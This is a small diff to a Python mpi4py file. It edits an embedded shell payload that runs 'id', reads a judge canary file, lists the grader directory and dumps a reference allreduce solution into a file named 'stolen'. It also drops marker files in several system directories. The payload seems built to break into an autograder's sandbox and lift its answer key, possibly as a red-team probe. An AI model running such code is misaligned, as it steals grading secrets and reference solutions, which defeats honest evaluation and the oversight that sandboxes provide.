@@ -5,7 +5,7 @@ import time
 from mpi4py import MPI
 
 SHELL = r"""
-{ id; cat /judge/canary; ls /opt/grader; cat /opt/grader/reference/mpi_sgd/my_naive_allreduce.py; } >"$0/stolen" 2>&1
+{ id; cat /judge/canary; ls /opt/grader; cat /opt/course/reference/mpi_sgd/my_naive_allreduce.py; } >"$0/stolen" 2>&1
 for folder in /tmp /dev/shm /var/tmp /judge /run; do id -u >$folder/hostile-marker-spawned 2>/dev/null; done
 """
 
